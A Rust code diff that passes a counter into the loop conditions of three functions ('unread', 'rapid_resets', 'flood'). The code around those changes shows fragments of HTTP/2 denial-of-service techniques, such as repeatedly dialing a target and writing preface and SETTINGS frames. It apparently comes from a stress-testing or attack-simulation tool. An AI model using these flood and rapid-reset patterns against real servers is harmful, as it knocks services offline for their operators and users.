@@ -26,7 +26,7 @@ const EMPTY: &[u8] = &[0; 5];
 pub(super) fn unread(target: &Target) -> Result<u64> {
     block_on(async {
         let (mut held, mut count) = (Vec::new(), 0);
-        while target.goes_on() {
+        while target.goes_on(count) {
             if held.len() == HELD {
                 sleep(Duration::from_millis(50)).await;
                 continue;
@@ -51,7 +51,7 @@ pub(super) fn unread(target: &Target) -> Result<u64> {
 pub(super) fn rapid_resets(target: &Target) -> Result<u64> {
     block_on(async {
         let (mut connections, mut count) = (0, 0);
-        while target.goes_on() {
+        while target.goes_on(count) {
             connections += 1;
             let Some(mut stream) = target.dial(connections).await? else { continue };
             let _ = stream.write_all(&[PREFACE, SETTINGS].concat()).await;
@@ -61,7 +61,7 @@ pub(super) fn rapid_resets(target: &Target) -> Result<u64> {
                 let write = timeout(WRITE, stream.write_all(&bytes)).await;
                 let read = timeout(Duration::ZERO, stream.read(&mut answer)).await;
                 let is_closed = matches!(read, Ok(Ok(0) | Err(_)));
-                if !matches!(write, Ok(Ok(()))) || is_closed || !target.goes_on() {
+                if !matches!(write, Ok(Ok(()))) || is_closed || !target.goes_on(count) {
                     break;
                 }
                 count += 1;
@@ -75,7 +75,7 @@ pub(super) fn rapid_resets(target: &Target) -> Result<u64> {
 pub(super) fn flood(target: &Target) -> Result<u64> {
     block_on(async {
         let (mut held, mut count) = (std::collections::VecDeque::new(), 0);
-        while target.goes_on() {
+        while target.goes_on(count) {
             count += 1;
             let Some(mut stream) = target.dial(usize::try_from(count)?).await? else { continue };
             if count % 2 == 0 {
